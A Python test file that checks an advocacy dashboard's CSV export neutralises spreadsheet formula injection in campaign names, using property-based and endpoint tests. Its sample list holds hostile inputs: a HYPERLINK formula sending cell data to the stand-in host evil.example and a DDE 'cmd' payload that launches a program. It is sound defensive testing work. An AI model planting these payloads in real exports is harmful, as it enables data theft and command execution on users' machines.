"""CSV exports are safe from spreadsheet formulas: a name an attacker controls (campaign, team)
that starts with = + - @ or a control character comes out inert."""
from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1")
DANGEROUS = "=+-@\t\r"


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


def _inert(cell: str) -> bool:
    stripped = cell.lstrip()
    return not stripped or stripped[0] not in DANGEROUS or cell.startswith("'")


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(value=st.one_of(st.text(max_size=30), st.sampled_from(FORMULAS), st.integers(), st.floats(allow_nan=False)))
def test_every_cell_helper_output_is_inert(value):
    from advocacy.kpi.dashboard import csv_safe

    safe = csv_safe(value)
    if isinstance(value, (int, float)):
        assert safe == value
    else:
        assert _inert(str(safe)), repr(safe)
        assert str(safe).lstrip("'") == str(value) or str(safe) == str(value)


def test_kpi_export_neutralises_a_formula_in_a_campaign_name(client, make_person, login, make_campaign,
                                                              make_charter_in_force, app):
    from advocacy.extensions import db

    make_charter_in_force()
    marketer = make_person(roles=("marketer", "hr"))
    campaigns = []
    for formula in FORMULAS:
        campaign = make_campaign()
        campaign.name = formula
        campaigns.append(campaign)
    db.session.flush()
    login(client, marketer)
    checked = 0
    for campaign in campaigns:
        response = client.get(f"/kpi/export.csv?view=campaigns&campaign={campaign.id}")
        assert response.status_code == 200, response.status_code
        cells = _cells(response.get_data(as_text=True))
        assert any(campaign.name in cell for cell in cells), "the campaign name is not in the export"
        bad = [cell for cell in cells if not _inert(cell)]
        assert not bad, bad
        checked += 1
    assert checked == len(FORMULAS)
